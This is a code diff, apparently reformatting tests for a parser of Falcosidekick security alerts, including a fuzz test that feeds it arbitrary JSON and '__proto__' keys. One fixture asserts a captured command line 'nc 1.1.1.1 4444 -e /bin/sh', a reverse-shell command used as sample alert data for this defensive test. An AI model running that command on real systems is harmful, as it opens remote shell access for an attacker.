@@ -21,7 +21,13 @@ describe('a Falcosidekick alert', () => {
       priority: 'warning',
       time: '2026-11-21T10:15:30.123Z',
       receivedAt: '2026-11-21T10:15:31.000Z',
-      target: { namespace: 'playground', pod: 'pod-delete-test', podUid: '00000000-0000-4000-8000-000000000000', container: 'shell', image: 'docker.io/library/busybox:1.37.0' },
+      target: {
+        namespace: 'playground',
+        pod: 'pod-delete-test',
+        podUid: '00000000-0000-4000-8000-000000000000',
+        container: 'shell',
+        image: 'docker.io/library/busybox:1.37.0',
+      },
       targetProblem: null,
     });
     expect(alert.fields['proc.cmdline']).toBe('nc 1.1.1.1 4444 -e /bin/sh');
@@ -44,7 +50,9 @@ describe('a Falcosidekick alert', () => {
   });
 
   test('says where the code lives when custom fields do', () => {
-    const { infrastructure } = read(payload('pod-delete-test', {}, { git_repo: 'https://example.com/a/b', pulumi_stack: 'prod', other: 'x' }));
+    const { infrastructure } = read(
+      payload('pod-delete-test', {}, { git_repo: 'https://example.com/a/b', pulumi_stack: 'prod', other: 'x' }),
+    );
     expect(infrastructure).toEqual({ git_repo: 'https://example.com/a/b', pulumi_stack: 'prod' });
   });
 
@@ -110,8 +118,20 @@ describe('what is not an alert is refused with the reason', () => {
 });
 
 test('any JSON is an alert or refused; a target’s names are always Kubernetes names', () => {
-  const fields = fc.dictionary(fc.constantFrom('k8s.ns.name', 'k8s.pod.name', 'k8s.pod.uid', 'proc.cmdline', 'git_repo', '__proto__'), fc.jsonValue());
-  const bodies = fc.oneof(fc.jsonValue(), fc.record({ rule: fc.string(), priority: fc.string(), time: fc.constant('2026-01-01T00:00:00Z'), output: fc.string(), output_fields: fields }));
+  const fields = fc.dictionary(
+    fc.constantFrom('k8s.ns.name', 'k8s.pod.name', 'k8s.pod.uid', 'proc.cmdline', 'git_repo', '__proto__'),
+    fc.jsonValue(),
+  );
+  const bodies = fc.oneof(
+    fc.jsonValue(),
+    fc.record({
+      rule: fc.string(),
+      priority: fc.string(),
+      time: fc.constant('2026-01-01T00:00:00Z'),
+      output: fc.string(),
+      output_fields: fields,
+    }),
+  );
   fc.assert(
     fc.property(bodies, (body) => {
       try {
